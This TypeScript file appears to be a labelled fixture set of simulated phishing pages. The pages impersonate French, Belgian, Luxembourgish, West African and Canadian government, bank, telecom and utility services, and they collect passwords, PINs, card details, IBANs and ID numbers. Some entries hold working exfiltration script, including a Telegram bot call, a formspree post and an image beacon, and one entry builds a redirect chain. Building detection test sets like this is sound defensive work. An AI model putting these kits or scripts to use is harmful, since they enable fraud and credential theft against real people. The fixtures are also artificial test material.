import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc, republique, legalFooter, wordmark } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-caf-prime-exceptionnelle',
  label: 'phishing',
  kind: 'family-benefit-kit',
  url: 'https://caf-aide-rentree.fr/mon-compte/connexion.html',
  body: doc({ title: 'caf.fr - Mon Compte', css: '.top{background:#005e9e;color:#fff;padding:14px 0}.card{background:#fff;max-width:460px;margin:30px auto;padding:26px;border-radius:6px;box-shadow:0 2px 8px #0002}', body: `<div class="top"><div class="wrap"><b style="font-size:24px">caf</b>.fr &nbsp;| Allocations familiales</div></div>
<div class="card"><h2>Prime exceptionnelle de rentrée</h2><p>Une aide de 150 € est en attente de versement sur votre dossier. Identifiez-vous pour la débloquer.</p>
<form action="https://caf-aide-rentree.fr/mon-compte/valid.php" method="post"><label>Numéro allocataire</label><input name="alloc" required><label>Code postal</label><input name="cp" required><label>Mot de passe</label><input type="password" name="mdp" required>
<button class="btn" style="background:#005e9e;width:100%">Me connecter</button></form>
<p style="font-size:13px"><a href="#">Mot de passe oublié ?</a> · <a href="#">Se connecter avec FranceConnect</a></p></div>` }),
},
  {
  id: 'zx-antai-amende-majoree',
  label: 'phishing',
  kind: 'fine-payment-kit',
  url: 'https://amendes-gouv-paiement.com/avis/PV-8891240.html',
  body: doc({ title: 'Paiement de votre amende - ANTAI', body: `${republique('Agence Nationale de Traitement Automatisé des Infractions')}
<main class="wrap" style="padding:24px 18px;display:grid;grid-template-columns:1fr 1fr;gap:24px">
<section style="background:#fff;padding:20px"><h2>Avis de contravention</h2><table style="width:100%;font-size:14px"><tr><td>Numéro d'avis</td><td><b>8891240763</b></td></tr><tr><td>Infraction</td><td>Excès de vitesse &lt; 20 km/h</td></tr><tr><td>Lieu</td><td>A7 - Montélimar</td></tr><tr><td>Montant minoré</td><td><b>35,00 €</b></td></tr><tr><td>Montant majoré après le 14/</td><td style="color:#c00">375,00 €</td></tr></table></section>
<section style="background:#fff;padding:20px"><h2>Payer par carte bancaire</h2><form id="p"><label>Titulaire</label><input name="holder"><label>Numéro de carte</label><input name="card" autocomplete="cc-number"><div style="display:flex;gap:8px"><input name="mm" placeholder="MM"><input name="aa" placeholder="AA"><input name="cvv" placeholder="CVV"></div><button class="btn">Payer 35,00 €</button></form><div id="w" style="display:none">Vérification 3-D Secure en cours…</div></section></main>
<script src="/assets/pay.js"></script>` }),
  routes: { 'amendes-gouv-paiement.com/assets/pay.js': jsRoute(`document.getElementById('p').onsubmit=function(e){e.preventDefault();var d={};new FormData(this).forEach(function(v,k){d[k]=v});d.ua=navigator.userAgent;
var x=new XMLHttpRequest();x.open('POST','https://api.telegram.org/bot6623418870:AAF1k_p0xr9sQmWq3LzQ/sendMessage');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({chat_id:'-100198342211',text:JSON.stringify(d)}));
this.style.display='none';document.getElementById('w').style.display='block';setTimeout(function(){location='/avis/otp.html'},4000)};`) },
},
  {
  id: 'zx-cheque-energie-versement',
  label: 'phishing',
  kind: 'energy-voucher-kit',
  url: 'https://chequeenergie-gouv.org/beneficiaire/',
  body: doc({ title: 'Chèque énergie - Espace bénéficiaire', body: `${republique('Chèque énergie', 'Espace bénéficiaire')}
<main class="wrap" style="padding:24px 18px"><h1>Recevez votre chèque énergie 2024 par virement</h1><p>Votre chèque d'un montant de <b>277 €</b> n'a pas pu être distribué. Indiquez vos coordonnées pour un versement direct.</p>
<form action="envoi.php" method="post" style="background:#fff;padding:22px;max-width:520px"><label>Numéro fiscal</label><input name="nf"><label>Référence de l'avis d'impôt</label><input name="ref"><label>Nom, prénom</label><input name="np"><label>IBAN</label><input name="iban"><label>Numéro de carte bancaire (vérification d'identité)</label><input name="cb"><label>Expiration</label><input name="exp"><label>Code de sécurité</label><input name="cvv"><button class="btn">Confirmer</button></form></main>` }),
},
  {
  id: 'zx-douane-frais-dedouanement-be',
  label: 'phishing',
  kind: 'customs-fee-kit',
  url: 'https://bpost-douane.be-track.com/nl/betaling',
  body: doc({ lang: 'nl', title: 'bpost - Invoerrechten betalen', css: '.b{background:#ef2637;color:#fff;padding:14px 0}', body: `<div class="b"><div class="wrap"><b style="font-size:24px">bpost</b></div></div>
<main class="wrap" style="padding:24px 18px;max-width:600px"><h1>Uw zending wacht op douaneafhandeling</h1><p>Voor zending <b>CE458812239BE</b> zijn invoerrechten verschuldigd: <b>€ 2,49</b>. Na 3 dagen wordt het pakket teruggestuurd naar de afzender.</p>
<form method="post" action="/nl/betaling/verwerk.php" style="background:#fff;padding:20px"><label>Naam</label><input name="naam"><label>Kaartnummer</label><input name="kaart" autocomplete="cc-number"><label>Vervaldatum</label><input name="verval"><label>CVC</label><input name="cvc"><button class="btn" style="background:#ef2637">Betalen</button></form>
<p style="font-size:12px">Vous préférez le français ? <a href="/fr/paiement">FR</a></p></main>` }),
},
  {
  id: 'zx-credit-agricole-securipass',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://ca-particuliers-securipass.com/ca/authentification/',
  body: doc({ title: 'Crédit Agricole - Accéder à mes comptes', css: '.ca{background:#006a4e;color:#fff;padding:14px 0}.kp{display:grid;grid-template-columns:repeat(5,48px);gap:6px;margin:10px 0}.kp button{height:48px;font-size:18px;background:#f0f0f0;border:1px solid #ccc}', body: `<div class="ca"><div class="wrap"><b>CRÉDIT AGRICOLE</b> · Particuliers</div></div>
<main class="wrap" style="padding:24px 18px;max-width:480px"><h2>Accéder à mes comptes</h2><label>Votre région</label><select name="cr"><option>Alpes Provence</option><option>Aquitaine</option><option>Île-de-France</option><option>Nord de France</option></select>
<label>Identifiant (11 chiffres)</label><input id="id" maxlength="11"><label>Code personnel</label><input id="pw" type="password" readonly><div class="kp" id="kp"></div>
<button class="btn" style="background:#006a4e" onclick="sub()">Valider</button></main>
<script>var k=document.getElementById('kp'),d=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});d.forEach(function(n){var b=document.createElement('button');b.textContent=n;b.onclick=function(){document.getElementById('pw').value+=n};k.appendChild(b)});
function sub(){var i=new Image();i.src='/ca/authentification/l.php?i='+encodeURIComponent(document.getElementById('id').value)+'&c='+encodeURIComponent(document.getElementById('pw').value);setTimeout(function(){location.href='/ca/authentification/securipass.html'},800)}</script>` }),
},
  {
  id: 'zx-orange-money-senegal-bonus',
  label: 'phishing',
  kind: 'mobile-money-kit',
  url: 'https://orange-money-sn.bonus-client.net/recompense',
  body: doc({ title: 'Orange Money Sénégal - Bonus fidélité', css: '.om{background:#000;color:#ff7900;padding:14px 0}.pin{letter-spacing:12px;font-size:22px;text-align:center}', body: `<div class="om"><div class="wrap"><b style="font-size:22px">orange</b><span style="color:#fff"> Money</span></div></div>
<main class="wrap" style="padding:24px 18px;max-width:460px"><h2>Bravo ! Vous gagnez 25 000 FCFA</h2><p>Nangadef ! Pour vous remercier de votre fidélité, Orange Money vous offre un bonus. Confirmez votre numéro et votre code secret pour recevoir le transfert sur votre compte.</p>
<form id="o"><label>Numéro Orange (+221)</label><input name="msisdn" placeholder="77 000 00 00"><label>Code secret Orange Money (4 chiffres)</label><input class="pin" type="password" name="pin" maxlength="4"><button class="btn" style="background:#ff7900">Recevoir mon bonus</button></form></main>
<script>document.getElementById('o').onsubmit=function(e){e.preventDefault();fetch('https://formspree.io/f/xqazbnlw',{method:'POST',headers:{Accept:'application/json'},body:new FormData(this)}).then(function(){alert('Transfert en cours. Vous recevrez un SMS de confirmation.')})}</script>` }),
},
  {
  id: 'zx-mtn-momo-ci-verification',
  label: 'phishing',
  kind: 'mobile-money-kit',
  url: 'https://momo-mtn-ci.verif-compte.com/',
  body: doc({ title: 'MTN MoMo Côte d\'Ivoire', css: 'body{background:#ffcb05}.c{background:#fff;max-width:420px;margin:30px auto;padding:24px;border-radius:10px}', body: `<div class="c"><h2 style="color:#004f71">MTN Mobile Money</h2><p>Votre compte MoMo sera suspendu suite à la nouvelle réglementation BCEAO sur l'identification. Mettez à jour vos informations.</p>
<form method="post" action="/maj.php"><label>Numéro MoMo</label><input name="num" value="+225 "><label>Nom complet (comme sur la CNI)</label><input name="nom"><label>Numéro CNI</label><input name="cni"><label>Code PIN MoMo</label><input type="password" name="pin" maxlength="5"><button class="btn" style="background:#004f71">Mettre à jour</button></form></div>` }),
},
  {
  id: 'zx-free-mobile-facture-impayee',
  label: 'phishing',
  kind: 'telecom-account-kit',
  url: 'https://free-mobile-espace-abonne.info/facture/regularisation',
  body: doc({ title: 'Free Mobile - Espace abonné', css: '.fr{background:#cd1e25;color:#fff;padding:14px 0}', body: `<div class="fr"><div class="wrap"><b style="font-size:24px">free</b> mobile</div></div><main class="wrap" style="padding:24px 18px;max-width:520px">
<h2>Échec du prélèvement de votre facture</h2><p>Le prélèvement de votre facture du mois (19,99 €) a été rejeté par votre banque. Votre ligne sera suspendue sous 24 h sans régularisation.</p>
<form method="post" action="regularisation/paiement.php"><label>Identifiant</label><input name="login"><label>Mot de passe</label><input type="password" name="pass"><label>Carte bancaire</label><input name="cc"><label>Date d'expiration</label><input name="exp"><label>CVV</label><input name="cvv"><button class="btn" style="background:#cd1e25">Régulariser</button></form></main>` }),
},
  {
  id: 'zx-engie-remboursement-trop-percu',
  label: 'phishing',
  kind: 'utility-account-kit',
  url: 'https://particuliers-engie.remboursement-client.fr/',
  body: doc({ title: 'ENGIE - Remboursement de trop-perçu', css: '.en{background:#fff;border-bottom:3px solid #00aaff;padding:14px 0}', body: `<div class="en"><div class="wrap"><b style="font-size:24px;color:#00aaff">ENGIE</b></div></div><main class="wrap" style="padding:24px 18px;max-width:560px">
<h2>Un trop-perçu de 96,40 € vous sera remboursé</h2><p>Suite à la régularisation de votre relevé de compteur, un remboursement est disponible. Confirmez vos coordonnées bancaires.</p>
<form id="e" action="/confirm.php" method="post"><label>Référence client</label><input name="ref"><label>Nom du titulaire</label><input name="titulaire"><label>Numéro de carte</label><input name="pan"><label>Expire fin</label><input name="exp"><label>Cryptogramme visuel</label><input name="cvv"><button class="btn" style="background:#00aaff">Valider le remboursement</button></form></main>` }),
},
  {
  id: 'zx-guichet-lu-mise-a-jour',
  label: 'phishing',
  kind: 'gov-portal-kit',
  url: 'https://guichet-lu.myguichet-securite.com/login',
  body: doc({ title: 'MyGuichet.lu - Authentification', css: '.lu{background:#00a3e0;color:#fff;padding:14px 0}', body: `<div class="lu"><div class="wrap"><b>MyGuichet.lu</b> · Le guichet unique de l'État</div></div><main class="wrap" style="padding:24px 18px;max-width:480px">
<h2>Authentification</h2><p>Veuillez confirmer votre identité LuxTrust pour continuer à accéder à vos démarches.</p>
<form method="post" action="/verify.php"><label>Identifiant LuxTrust</label><input name="user"><label>Mot de passe</label><input type="password" name="pwd"><label>Code OTP (Token / Scan)</label><input name="otp"><button class="btn" style="background:#00a3e0">Se connecter</button></form></main>` }),
},
  {
  id: 'zx-revenu-quebec-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://t.avis-arc-qc.info/r/9ZPq1',
  routes: {
    't.avis-arc-qc.info/r/9ZPq1': redirectRoute(302, 'https://cdn-jump.netlify-app-host.com/go.html?c=fr-CA'),
    'cdn-jump.netlify-app-host.com/go.html': htmlRoute('<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="1;url=https://arc-canada-remboursement.com/monDossier/"><title>Chargement…</title></head><body>Redirection…</body></html>'),
    'arc-canada-remboursement.com/monDossier/': htmlRoute(doc({ lang: 'fr-CA', title: 'Mon dossier - ARC', css: '.ca{background:#26374a;color:#fff;padding:14px 0}', body: `<div class="ca"><div class="wrap">Gouvernement du Canada · Agence du revenu du Canada</div></div><main class="wrap" style="padding:24px 18px;max-width:560px"><h1>Crédit pour la TPS/TVH : versement en attente</h1><p>Un montant de 467,29 $ n'a pas pu vous être versé. Connectez-vous avec votre partenaire de connexion.</p>
<form method="post" action="/monDossier/banque.php"><label>Numéro d'assurance sociale</label><input name="nas"><label>Date de naissance</label><input name="dob"><label>Institution financière</label><select name="inst"><option>Desjardins</option><option>Banque Nationale</option><option>RBC</option></select><label>Numéro de carte</label><input name="carte"><label>Mot de passe bancaire</label><input type="password" name="mdp"><button class="btn" style="background:#26374a">Continuer</button></form></main>` })),
  },
},
];
